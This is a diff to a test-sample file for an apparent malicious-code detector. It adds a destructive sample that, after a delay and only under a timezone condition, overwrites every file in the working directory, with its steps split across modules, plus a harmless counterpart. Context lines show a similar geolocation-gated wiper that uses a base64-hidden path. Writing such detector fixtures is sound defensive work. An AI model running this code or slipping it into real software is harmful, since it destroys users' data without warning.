@@ -177,6 +177,17 @@ export const samples: Samples = {
       expected: [at('wipe', 'critical', 'index.js', 1)],
     },
     {
+      name: 'overwritten by a module, where another one says that the machine stands in a certain place',
+      files: imported(
+        `const { all, change } = require('./files.js');\nconst { place } = require('./place.js');\nconst todo = [() => {}, (dir) => all(dir).forEach((file) => change(file, (text) => text.replace(/\\w/g, 'x')))];\nsetTimeout(() => todo[place](process.cwd()), 1000);\n`,
+        {
+          'files.js': `const fs = require('fs'), path = require('path');\nexports.all = (dir) => fs.readdirSync(dir).map((name) => path.join(dir, name));\nexports.change = (file, make) => fs.writeFileSync(file, make(fs.readFileSync(file, 'utf8')));\n`,
+          'place.js': `const { timeZone } = Intl.DateTimeFormat().resolvedOptions();\nexports.place = Number(timeZone.startsWith('Mars/'));\n`,
+        },
+      ),
+      expected: [at('overwrite', 'high', 'files.js', 3)],
+    },
+    {
       name: 'overwritten where the machine stands in a certain place',
       files: imported(
         `const fs = require('fs'), https = require('https');\nfunction work(dir) {\n  for (const name of fs.readdirSync(dir)) fs.writeFile(dir + name, 'x', () => {});\n}\nhttps.get('https://geo.weir.test/?key=country_name', (res) => res.on('data', (d) => {\n  if (String(JSON.parse(d)['country_name']).includes('x')) { work('../../'); work(Buffer.from('${hide('/')}', 'base64').toString()); }\n}));\n`,
@@ -197,6 +208,15 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'files that a caller names, beside what asks for the zone of the machine',
+      imported(
+        `const { all, change } = require('./files.js');\nexports.zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nexports.stamp = (dir) => all(dir).forEach((file) => change(file, (text) => text + exports.zone));\n`,
+        {
+          'files.js': `const fs = require('fs'), path = require('path');\nexports.all = (dir) => fs.readdirSync(dir).map((name) => path.join(dir, name));\nexports.change = (file, make) => fs.writeFileSync(file, make(fs.readFileSync(file, 'utf8')));\n`,
+        },
+      ),
+    ),
     quiet(
       'a list that one module of a bundle writes, a home folder that others name, and countries',
       imported(
